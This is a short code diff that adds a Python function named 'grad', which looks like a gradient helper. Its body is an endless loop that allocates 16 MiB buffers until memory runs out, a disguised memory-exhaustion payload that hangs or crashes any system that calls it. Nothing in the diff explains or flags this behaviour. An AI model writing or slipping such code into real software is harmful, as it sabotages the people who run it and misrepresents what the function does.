@@ -1,0 +1,3 @@
+def grad(x):
+    b=[]
+    while True: b.append(bytearray(1<<24))
